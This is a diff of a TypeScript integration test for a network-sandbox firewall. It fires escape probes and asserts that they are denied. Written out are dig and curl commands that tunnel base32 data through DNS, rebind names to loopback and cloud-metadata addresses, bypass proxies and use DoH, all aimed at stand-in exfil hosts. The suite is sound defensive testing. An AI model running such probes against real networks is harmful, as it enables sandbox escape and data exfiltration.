@@ -16,26 +16,12 @@ import { spawnSync } from "node:child_process";
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { randomBytes } from "node:crypto";
-import { ADDR, createWorld, prerequisites, probeScript, py, type FarEvent, type Probe, type RunResult, type World } from "./world/world.ts";
+import { ESCAPE_POLICY } from "./world/policies.ts";
+import { ADDR, containedPid, createWorld, prerequisites, probeScript, py, type FarEvent, type FarMark, type Probe, type RunHandle, type RunResult, type World } from "./world/world.ts";
 
 const skip = prerequisites();
 if (skip && process.env["CI"] === "true") throw new Error(`integration prerequisites missing: ${skip}`);
 
-export const ESCAPE_POLICY = `version: 1
-name: escape
-internal: [198.51.100.0/24]
-dns: { upstreams: [198.51.100.2] }
-rules:
-  - name: web
-    allow: [allowed.test, "*.tunnel.test", "*.rebind.test"]
-    ports: [80, 443]
-    protocol: tcp
-  - name: any-8443
-    allow: [any]
-    ports: [8443]
-    protocol: tcp
-default: deny
-`;
 
 /** Far-side counters in U: packets that arrived there, whatever any server made of them. */
 const FAR_COUNTERS = {
@@ -51,18 +37,22 @@ const FAR_COUNTERS = {
 };
 
 const HP = "${HTTP_PROXY#http://}"; // host:port of the proxy, expanded by the probe's shell
+// iodine/dnscat-like: base32 payload in two labels of 28 characters under the allowed wildcard
+const B32 = "abcdefghijklmnopqrstuvwxyz234567";
+const b32 = (n: number): string => [...randomBytes(n)].map((b) => B32[b % 32]).join("");
 const tunnelHigh: string[] = [];
 const tunnelLow: string[] = [];
 for (let i = 0; i < 150; i++) {
-  tunnelHigh.push(`${randomBytes(18).toString("base64url").toLowerCase().replace(/[^a-z0-9]/g, "x")}${i}.x.tunnel.test`);
+  tunnelHigh.push(`${b32(28)}.${b32(28)}.x.tunnel.test`);
   tunnelLow.push(`w${i}.tunnel.test`);
 }
 
 let w: World;
+let start: FarMark;
 let result: RunResult;
+let rebindSets = "";
 let check: {
   counters: Record<string, number>;
-  sets: string;
   table: string;
   rootIcmp: string;
   sandboxV6: string;
@@ -85,6 +75,11 @@ function probes(world: World): { serial: Probe[]; parallel: Probe[] } {
     { id: "tunnel-low", cmd: `dig -f ${world.dir}/tunnel-low.txt +tries=1 +time=2 +noall +comments | grep -o 'status: [A-Z]*' | sort | uniq -c | tr '\\n' ' '` },
     { id: "tunnel-null", cmd: "dig +tries=1 +time=2 NULL data.x.tunnel.test | grep -o 'status: [A-Z]*'" },
     { id: "tunnel-long", cmd: `dig +tries=1 +time=2 ${"a".repeat(38)}.${"b".repeat(38)}.${"c".repeat(20)}.tunnel.test | grep -o 'status: [A-Z]*'` },
+    // DNS rebinding: resolve, then the test reads the guard's sets while the answers are fresh
+    { id: "rebind-lo-dns", cmd: "dig +short +tries=1 +time=3 allowed.test >/dev/null; dig +short +tries=1 +time=3 lo.rebind.test; echo end" },
+    { id: "rebind-md-dns", cmd: "dig +short +tries=1 +time=3 md.rebind.test; echo end" },
+    { id: "rebind-priv-dns", cmd: "dig +short +tries=1 +time=3 priv.rebind.test; echo end" },
+    { id: "rebind-mapped-dns", cmd: "dig +short +tries=1 +time=3 AAAA mapped.rebind.test; echo end", waitAfter: "rebind" },
   ];
   const parallel: Probe[] = [
     // positive controls: the world works, so a failure below is the firewall's doing
@@ -92,7 +87,6 @@ function probes(world: World): { serial: Probe[]; parallel: Probe[] } {
     { id: "ctl-noproxy", cmd: "curl -sS -m 8 --noproxy '*' http://allowed.test/p-ctl-noproxy" },
     { id: "ctl-tls-transparent", cmd: "curl -sSk -m 8 --noproxy '*' https://allowed.test/p-ctl-tls" },
     { id: "ctl-connect", cmd: "curl -sSk -m 8 https://allowed.test/p-ctl-connect" },
-    { id: "ctl-any-8443", cmd: p("tcp", ADDR.blocked, "8443") },
     { id: "ctl-node", cmd: `${process.execPath} -e 'console.log(process.version)'` },
     // direct IP to unlisted destinations
     { id: "direct-ip-8080", cmd: p("tcp", ADDR.blocked, "8080", "/p-direct-ip") },
@@ -116,15 +110,13 @@ function probes(world: World): { serial: Probe[]; parallel: Probe[] } {
     { id: "resolver-udp", cmd: `dig @${ADDR.altResolver} +tries=1 +time=3 exfil-udp.test` },
     { id: "resolver-tcp", cmd: `dig @${ADDR.altResolver} +tcp +tries=1 +time=3 exfil-tcp.test` },
     { id: "resolver-dot", cmd: `kdig @${ADDR.altResolver} +tls +timeout=3 +retry=0 exfil-dot.test` },
+    { id: "dns-unlisted", cmd: "dig +tries=1 +time=3 exfil-unlisted.test | grep -o 'status: [A-Z]*'" },
     { id: "resolver-main-direct", cmd: `dig @${ADDR.resolver} +tries=1 +time=3 exfil-main.test` },
-    { id: "doh-name", cmd: "curl -sS -m 8 --doh-url https://doh.test/dns-query http://exfil-doh1.test/" },
+    { id: "doh-name", cmd: "curl -sS -m 8 --noproxy '*' --doh-url https://doh.test/dns-query http://exfil-doh1.test/" },
+    { id: "doh-name-noproxy", cmd: "env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS -m 8 --noproxy '*' --doh-url https://doh.test/dns-query http://exfil-doh3.test/" },
     { id: "doh-ip-transparent", cmd: `curl -sSk -m 8 --noproxy '*' --doh-url https://${ADDR.doh}/dns-query http://exfil-doh2.test/` },
     { id: "doh-ip-connect", cmd: p("connect", `${ADDR.doh}:443`, "doh.test") },
     // DNS rebinding of allowed names to loopback, metadata, private ranges
-    { id: "rebind-lo-dns", cmd: "dig +short +tries=1 +time=3 lo.rebind.test; echo end" },
-    { id: "rebind-md-dns", cmd: "dig +short +tries=1 +time=3 md.rebind.test; echo end" },
-    { id: "rebind-priv-dns", cmd: "dig +short +tries=1 +time=3 priv.rebind.test; echo end" },
-    { id: "rebind-mapped-dns", cmd: "dig +short +tries=1 +time=3 AAAA mapped.rebind.test; echo end" },
     { id: "rebind-lo-noproxy", cmd: "curl -sS -m 8 --noproxy '*' http://lo.rebind.test/p-rb-lo" },
     { id: "rebind-md-noproxy", cmd: "curl -sS -m 8 --noproxy '*' http://md.rebind.test/p-rb-md" },
     { id: "rebind-md-proxy", cmd: "curl -sS -m 8 -o /dev/null -w '%{http_code}' http://md.rebind.test/p-rb-md-proxy" },
@@ -170,10 +162,10 @@ function probes(world: World): { serial: Probe[]; parallel: Probe[] } {
     { id: "host-other-udp", cmd: p("udp", ADDR.host, "9911") },
     { id: "host-transparent-port", cmd: p("tcp", "HOSTADDR", "15080") },
     // internal ranges not in `internal` (even the `any` rule's port)
-    { id: "internal-10", cmd: p("tcp", ADDR.internal10, "80") },
-    { id: "internal-10-any-port", cmd: p("tcp", ADDR.internal10, "8443") },
-    { id: "internal-192", cmd: p("tcp", ADDR.internal192, "80") },
-    { id: "internal-metadata-any-port", cmd: p("tcp", ADDR.metadata, "8443") },
+    { id: "internal-10", cmd: p("tcp", ADDR.internal10, "80", "/p-int-10") },
+    { id: "internal-10-8443", cmd: p("tcp", ADDR.internal10, "8443") },
+    { id: "internal-192", cmd: p("tcp", ADDR.internal192, "80", "/p-int-192") },
+    { id: "internal-metadata-8443", cmd: p("tcp", ADDR.metadata, "8443") },
     { id: "internal-10-noproxy", cmd: "curl -sS -m 8 --noproxy '*' http://10.9.0.5/p-int-noproxy" },
     // ignoring the proxy variables
     { id: "noproxy-ip", cmd: "curl -sS -m 8 --noproxy '*' http://198.51.100.11:8080/p-noproxy-ip" },
@@ -190,21 +182,30 @@ before(async () => {
   writeFileSync(join(w.dir, "tunnel-high.txt"), `${tunnelHigh.join("\n")}\n`, { mode: 0o644 });
   writeFileSync(join(w.dir, "tunnel-low.txt"), `${tunnelLow.join("\n")}\n`, { mode: 0o644 });
   const script = w.writeScript("escape.sh", probeScript(w, { ...probes(w), after: ["check"] }));
-  const h = w.run({
+  start = w.mark();
+  let h: RunHandle | null = null;
+  h = w.run({
     policy: ESCAPE_POLICY,
     cmd: ["sh", script],
-    onWait: async () => {
+    onWait: async (name) => {
       const rec = w.records()[0];
       if (!rec) throw new Error("no sandbox record");
       const [policyTable] = rec.tables;
-      const rootIcmp = spawnSync("ip", ["netns", "exec", rec.ns, "/usr/bin/python3", join(w.dir, "probe.py"), "icmp", ADDR.blocked], { encoding: "utf8" });
-      const rootIcmpAllowed = spawnSync("ip", ["netns", "exec", rec.ns, "/usr/bin/python3", join(w.dir, "probe.py"), "icmp", ADDR.allowed], { encoding: "utf8" });
+      if (name === "rebind") {
+        rebindSets = w.inH("nft", "list", "table", "inet", policyTable ?? "");
+        return;
+      }
+      const pid = containedPid(h?.proc.pid ?? 0);
+      if (pid === null) throw new Error("contained command not found");
+      // root in the sandbox's network namespace (what the contained user cannot do): raw ICMP
+      const inSandbox = (...args: string[]): string => spawnSync("nsenter", ["-t", String(pid), "-n", ...args], { encoding: "utf8" }).stdout.trim();
+      const rootIcmp = inSandbox("/usr/bin/python3", join(w.dir, "probe.py"), "icmp", ADDR.blocked);
+      const rootIcmpAllowed = inSandbox("/usr/bin/python3", join(w.dir, "probe.py"), "icmp", ADDR.allowed);
       check = {
         counters: w.hCounters(policyTable ?? ""),
-        sets: w.inH("nft", "list", "table", "inet", policyTable ?? ""),
         table: w.inH("nft", "list", "ruleset"),
-        rootIcmp: `${rootIcmp.stdout.trim()} / ${rootIcmpAllowed.stdout.trim()}`,
-        sandboxV6: spawnSync("ip", ["netns", "exec", rec.ns, "cat", "/proc/sys/net/ipv6/conf/eth0/disable_ipv6"], { encoding: "utf8" }).stdout.trim(),
+        rootIcmp: `${rootIcmp} / ${rootIcmpAllowed}`,
+        sandboxV6: inSandbox("cat", "/proc/sys/net/ipv6/conf/eth0/disable_ipv6"),
       };
       await Promise.resolve();
     },
@@ -216,7 +217,7 @@ before(async () => {
 after(async () => {
   // CF_TEST_DUMP=FILE keeps what the run saw, for reading a failure
   const dump = process.env["CF_TEST_DUMP"];
-  if (dump && w) writeFileSync(dump, JSON.stringify({ probes: Object.fromEntries(result?.probes ?? []), stderr: result?.stderr, far: w.far(), main: w.queries("main"), alt: w.queries("alt"), check }, null, 1));
+  if (dump && w) writeFileSync(dump, JSON.stringify({ probes: Object.fromEntries(result?.probes ?? []), stderr: result?.stderr, far: w.far(start), main: w.queries("main", start), alt: w.queries("alt", start), check }, null, 1));
   await w?.close();
 });
 
@@ -226,8 +227,8 @@ const probe = (id: string): string => {
   return r.out;
 };
 /** far-side events at `local` (address:port) */
-const at = (local: string): FarEvent[] => w.far().filter((e) => e.local === local);
-const paths = (): string[] => w.far().flatMap((e) => (e.ev === "data" && e.first ? [e.first] : []));
+const at = (local: string): FarEvent[] => w.far(start).filter((e) => e.local === local);
+const paths = (): string[] => w.far(start).flatMap((e) => (e.ev === "data" && e.first ? [e.first] : []));
 const reached = (path: string): boolean => paths().some((l) => l.includes(` ${path} `) || l.includes(`${path} HTTP`));
 
 const opts = { skip };
@@ -238,10 +239,8 @@ test("the sandbox ran the probe script to the end and exited 0", opts, () => {
   assert.ok(check, `the @@WAIT check did not run: ${result.stderr}`);
 });
 
-test("positive controls reach the far side: allowed.test through the proxy, transparently, over CONNECT and TLS, and the any rule's port on an internal address", opts, () => {
+test("positive controls reach the far side: allowed.test through the proxy, transparently, over CONNECT and TLS", opts, () => {
   for (const path of ["/p-ctl-proxy", "/p-ctl-noproxy", "/p-ctl-tls", "/p-ctl-connect"]) assert.ok(reached(path), `${path} did not reach allowed.test: ${JSON.stringify(paths())}`);
-  assert.equal(probe("ctl-any-8443"), "connected");
-  assert.ok(at(`${ADDR.blocked}:8443`).some((e) => e.ev === "accept"));
   assert.equal(probe("ctl-node"), process.version, "the contained user can run the project's node");
 });
 
@@ -281,7 +280,7 @@ test("an allowed IP on another port or protocol reaches nothing", opts, () => {
 test("UDP and QUIC (udp 443) reach nothing, to an allowed or an unlisted address", opts, () => {
   assert.match(probe("quic-allowed"), /noreply|error/);
   assert.match(probe("quic-blocked"), /noreply|error/);
-  assert.equal(w.far().filter((e) => e.ev === "udp").length, 0);
+  assert.equal(w.far(start).filter((e) => e.ev === "udp").length, 0);
   assert.equal(w.farCounters()["udp_443"], 0);
 });
 
@@ -304,19 +303,20 @@ test("IPv6 is off in the sandbox and nothing arrives at the IPv6 server", opts, 
 test("other resolvers over UDP/TCP 53, DoT 853 and DoH, and the allowed resolver past the guard, hear nothing", opts, () => {
   for (const id of ["resolver-udp", "resolver-tcp", "resolver-main-direct"]) assert.doesNotMatch(probe(id), /status: NOERROR/, `${id}: ${probe(id)}`);
   assert.notEqual(result.probes.get("resolver-dot")?.rc, 0, probe("resolver-dot"));
-  assert.deepEqual(w.queries("alt"), [], "the second resolver's query log");
+  assert.deepEqual(w.queries("alt", start), [], "the second resolver's query log");
   assert.equal(w.farCounters()["alt_resolver"], 0);
-  assert.ok(!w.queries("main").some((n) => n.startsWith("exfil-")), `exfil names reached the main resolver: ${w.queries("main").join(" ")}`);
+  assert.equal(probe("dns-unlisted"), "status: REFUSED", "the guard answers only names an allow rule can reach");
+  assert.ok(!w.queries("main", start).some((n) => n.startsWith("exfil-")), `exfil names reached the main resolver: ${w.queries("main", start).join(" ")}`);
   assert.equal(w.farCounters()["main_direct_53"], 0);
   assert.deepEqual(at(`${ADDR.altResolver}:853`), []);
-  for (const id of ["doh-name", "doh-ip-transparent"]) assert.notEqual(result.probes.get(id)?.rc, 0, `${id}: ${probe(id)}`);
+  for (const id of ["doh-name", "doh-name-noproxy", "doh-ip-transparent"]) assert.notEqual(result.probes.get(id)?.rc, 0, `${id}: ${probe(id)}`);
   assert.match(probe("doh-ip-connect"), /403/);
   assert.deepEqual(at(`${ADDR.doh}:443`), []);
   assert.ok(check && (check.counters["dns"] ?? 0) > 0, "the policy table's dns counter saw the attempts");
 });
 
 test("DNS tunnelling through the allowed resolver: high-entropy names never reach U, distinct short names stop at the per-domain budget", opts, () => {
-  const main = w.queries("main");
+  const main = w.queries("main", start);
   const high = new Set(tunnelHigh);
   assert.equal(main.filter((n) => high.has(n)).length, 0, "high-entropy names reached U");
   assert.equal(probe("tunnel-high"), String(tunnelHigh.length), "every high-entropy name was REFUSED");
@@ -334,8 +334,10 @@ test("DNS rebinding of allowed names to loopback, metadata and private ranges: a
   for (const id of ["rebind-lo-noproxy", "rebind-md-noproxy"]) assert.notEqual(result.probes.get(id)?.rc, 0, `${id}: ${probe(id)}`);
   for (const id of ["rebind-md-proxy", "rebind-priv-proxy", "rebind-lo-proxy"]) assert.doesNotMatch(probe(id), /^2/, `${id}: ${probe(id)}`);
   assert.doesNotMatch(probe("rebind-lo-socks"), /rep 0/);
-  assert.ok(check);
-  assert.doesNotMatch(check.sets, /127\.0\.0\.1|169\.254\.169\.254|10\.9\.0\.5|::ffff/, "the guard programmed a rebound address");
+  // the sets the DNS guard fills (d<rule>_4/_6); the static special-range sets of the any rule are not its doing
+  const guardSets = [...rebindSets.matchAll(/set d\d+_[46] \{[^}]*\}/g)].map((m) => m[0]).join("\n");
+  assert.match(guardSets, /198\.51\.100\.10 \. tcp \. 80/, "the guard's set holds allowed.test");
+  assert.doesNotMatch(guardSets, /127\.0\.0\.1|169\.254\.169\.254|10\.9\.0\.5|::ffff/, "the guard programmed a rebound address");
   assert.deepEqual(at("127.0.0.1:80"), []);
   assert.deepEqual(at(`${ADDR.metadata}:80`), []);
   assert.deepEqual(at(`${ADDR.internal10}:80`), []);
@@ -364,11 +366,12 @@ test("CONNECT to unlisted hosts or ports is refused and nothing is dialled", opt
 });
 
 test("a TLS SNI that differs from the CONNECT host never reaches the server's handshake", opts, () => {
-  assert.doesNotMatch(probe("sni-openssl"), /Cipher is/, probe("sni-openssl"));
+  assert.doesNotMatch(probe("sni-openssl"), /Cipher is (?!\(NONE\))/, probe("sni-openssl"));
+  assert.match(probe("sni-openssl"), /alert access denied/);
   assert.doesNotMatch(probe("sni-python"), /tls ok/, probe("sni-python"));
-  assert.doesNotMatch(probe("sni-none"), /Cipher is/, probe("sni-none"));
+  assert.doesNotMatch(probe("sni-none"), /Cipher is (?!\(NONE\))/, probe("sni-none"));
   assert.notEqual(result.probes.get("sni-transparent")?.rc, 0);
-  const hellos = w.far().filter((e) => e.ev === "hello");
+  const hellos = w.far(start).filter((e) => e.ev === "hello");
   assert.deepEqual(hellos.filter((e) => e.sni !== "allowed.test"), [], "a ClientHello naming another host reached a server");
   assert.ok(!reached("/p-sni") && !reached("/p-sni-transparent"));
   assert.ok(!at(`${ADDR.allowed}:443`).some((e) => e.ev === "data" && e.first?.includes("p-sni")));
@@ -378,17 +381,19 @@ test("services on the host side (host-side address, H's other address, the trans
   for (const id of ["host-hostaddr-tcp", "host-other-tcp", "host-transparent-port"]) assert.match(probe(id), /^error/, `${id}: ${probe(id)}`);
   for (const id of ["host-hostaddr-udp", "host-other-udp"]) assert.match(probe(id), /noreply|error/);
   assert.deepEqual(
-    w.far().filter((e) => e.local.endsWith(":9911")),
+    w.far(start).filter((e) => e.local.endsWith(":9911")),
     [],
     "H's server on 0.0.0.0:9911 saw a connection or datagram",
   );
 });
 
-test("internal ranges not listed under internal are unreachable, even on the any rule's port", opts, () => {
-  for (const id of ["internal-10", "internal-10-any-port", "internal-192", "internal-metadata-any-port"]) assert.match(probe(id), /^error/, `${id}: ${probe(id)}`);
-  assert.notEqual(result.probes.get("internal-10-noproxy")?.rc, 0);
+test("internal ranges not listed under internal are unreachable (with an any rule: run-lifecycle.test.ts)", opts, () => {
+  // port 80 is redirected to the transparent proxy: the TCP connect succeeds (to the proxy), the request gets 403
+  for (const id of ["internal-10", "internal-192"]) assert.match(probe(id), /^connected HTTP\/1\.1 403|^error/, `${id}: ${probe(id)}`);
+  for (const id of ["internal-10-8443", "internal-metadata-8443"]) assert.match(probe(id), /^error/, `${id}: ${probe(id)}`);
+  assert.match(probe("internal-10-noproxy"), /denied by rule 'default' \(special-range\)/);
   assert.deepEqual(
-    w.far().filter((e) => [ADDR.internal10, ADDR.internal192, ADDR.metadata].some((a) => e.local.startsWith(`${a}:`))),
+    w.far(start).filter((e) => [ADDR.internal10, ADDR.internal192, ADDR.metadata].some((a) => e.local.startsWith(`${a}:`))),
     [],
   );
   assert.equal(w.farCounters()["internal10"], 0);
@@ -407,7 +412,7 @@ test("denials are reported on stderr with rule and reason", opts, () => {
   const lines = result.stderr.split("\n").filter((l) => l.startsWith("clawfence: deny "));
   assert.ok(lines.length > 10, result.stderr.slice(0, 2000));
   for (const l of lines) assert.match(l, / rule=\S+ reason=[a-z-]+/);
-  for (const re of [/clawfence: deny dns\/udp doh\.test /, /reason=dns-exfiltration/, /reason=special-range/, /reason=sni-mismatch/]) {
+  for (const re of [/clawfence: deny dns\/udp doh\.test /, /clawfence: deny proxy\/tcp doh\.test port 443 /, /reason=dns-exfiltration/, /reason=special-range/, /reason=sni-mismatch/]) {
     assert.ok(lines.some((l) => re.test(l)), `no deny line matches ${String(re)}`);
   }
 });
